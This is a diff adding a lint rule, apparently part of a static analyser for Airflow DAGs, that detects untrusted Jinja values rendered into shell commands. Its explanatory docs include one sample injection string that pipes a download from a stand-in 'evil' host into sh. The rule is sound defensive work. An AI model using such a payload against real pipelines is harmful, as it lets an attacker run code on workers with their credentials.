@@ -1,0 +1,59 @@
+import { defineRule } from '../../src/engine/rule';
+import { atLeast, classifyJinja, commandParts, jinjaExpressions, restrictedParams, worst, type Trust } from '../../src/engine/airflow';
+import type { Severity } from '../../src/report';
+import { matchedScripts, OPERATOR_QUERY, reportOnce } from './_util';
+
+const SEVERITY: Partial<Record<Trust, Severity>> = { user: 'high', xcom: 'medium', config: 'low' };
+
+export default defineRule({
+  meta: {
+    id: 'DG203',
+    name: 'templated-user-input-in-shell',
+    category: 'shell-injection',
+    severity: 'high',
+    message: '{label} renders `{{ {expr} }}` into a shell command: {why}',
+    aliases: [],
+    docs: {
+      what:
+        'Finds Jinja expressions that interpolate values controlled by others into a command that a shell interprets: `BashOperator`/`BashSensor` `bash_command` (all import paths, Airflow 1–3), `SSHOperator` and `WinRMOperator` `command`, the return value of `@task.bash` functions, `DockerOperator` `command` when run by `sh -c` (in the command or the entrypoint), and the script after `-c` of a `KubernetesPodOperator` whose `cmds`/`arguments` start with a shell.\n\n' +
+        'Sources: `dag_run.conf…`, `params…` (overridable by `dag_run.conf` unless the DAG sets `dag_run_conf_overrides_params=False`), asset/dataset events — *high*; `ti.xcom_pull(…)` — *medium*; `var.value…`/`var.json…`/`conn…` — *low* (editable in the UI by users who may not be allowed to run code). Not reported: Airflow\'s own macros (`ds`, `ts`, `run_id`, `data_interval_start`, `macros.ds_add(ds, 1)`…); params declared as `Param(…, enum=[…])` or with a numeric/boolean `type` on the DAG or operator (Airflow validates them); values made numeric or quoted by a filter (`| int`, `| float`, or a user-defined filter with `quote` in its name such as `shell_quote` registered as `shlex.quote`); values passed through `env=` and referenced as `"$VAR"`.',
+      why:
+        'Airflow renders the template and hands the result to `bash -c`. A `dag_run.conf` value such as `x"; curl https://evil/x | sh; echo "` breaks out of any quoting and runs on the worker with its credentials. Anyone with permission to trigger the DAG (UI, REST API, a `TriggerDagRunOperator` fed by data) controls `conf` and, by default, `params`.',
+      example:
+        '```python\nBashOperator(\n    task_id="load",\n    bash_command="python load.py --table \'{{ dag_run.conf[\'table\'] }}\'",\n)\n```',
+      useInstead:
+        '```python\nBashOperator(\n    task_id="load",\n    bash_command=\'python load.py --table "$TABLE"\',  # the shell does not re-parse "$TABLE"\n    env={"TABLE": "{{ dag_run.conf[\'table\'] }}"},\n    append_env=True,\n)\n# or validate it: params={"table": Param("users", enum=["users", "orders"])}\n```',
+    },
+  },
+  query: OPERATOR_QUERY,
+  onMatch(c, ctx) {
+    const m = matchedScripts(c, ctx);
+    if (!m) return;
+    let restricted: Set<string> | null = null;
+    for (const s of m.scripts) {
+      for (const lit of commandParts(s.node).literals) {
+        const exprs = jinjaExpressions(lit.text);
+        if (!exprs.length) continue;
+        restricted ??= m.anchor.type === 'call' ? restrictedParams(m.anchor, ctx) : restrictedParams(m.anchor, ctx);
+        let trust: Trust = 'safe';
+        let first: { expr: string; why: string } | null = null;
+        for (const e of exprs) {
+          const k = classifyJinja(e.expr, restricted);
+          if (atLeast(k.trust, 'config') && worst(trust, k.trust) !== trust) {
+            trust = k.trust;
+            first = { expr: e.expr, why: k.why };
+          } else if (atLeast(k.trust, 'config') && !first) first = { expr: e.expr, why: k.why };
+        }
+        if (!first) continue;
+        const f = first;
+        const expr = f.expr.length > 60 ? f.expr.slice(0, 57) + '…' : f.expr;
+        reportOnce(ctx, lit.node, () =>
+          ctx.report(lit.node, this.meta.message.replace('{label}', s.label).replace('{expr}', expr).replace('{why}', f.why), {
+            severity: SEVERITY[trust] ?? 'high',
+            key: `${s.label} ${f.expr}`,
+          }),
+        );
+      }
+    }
+  },
+});
